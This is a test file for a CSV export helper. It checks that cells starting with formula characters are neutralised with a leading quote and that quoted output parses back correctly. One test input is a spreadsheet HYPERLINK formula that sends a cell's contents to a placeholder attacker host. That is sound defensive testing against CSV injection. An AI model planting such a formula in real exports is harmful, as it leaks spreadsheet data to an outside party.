import { parse } from 'csv-parse/sync';

import { csvCell, toCsv } from './csv';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Sanne")'],
    ['+SUM(1,2)'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('defuses %j with a leading single quote', (value) => {
    expect(csvCell(value)).toBe(`'${value}`);
  });

  it('leaves ordinary text, empty values and inner formula characters alone', () => {
    expect(csvCell('Sanne de Vries')).toBe('Sanne de Vries');
    expect(csvCell('a=b, c-d @ e')).toBe('a=b, c-d @ e');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(' =1')).toBe(' =1');
  });

  it('writes quoted cells that read back to the defused values', () => {
    const csv = toCsv(
      ['naam', 'school'],
      [
        ['=1+1', 'OBS "De Linde", Ede'],
        ['Jan', null],
      ],
    );
    expect(csv.startsWith('\ufeff"naam","school"\n')).toBe(true);
    expect(parse(csv, { bom: true, columns: true })).toEqual([
      { naam: "'=1+1", school: 'OBS "De Linde", Ede' },
      { naam: 'Jan', school: '' },
    ]);
  });
});
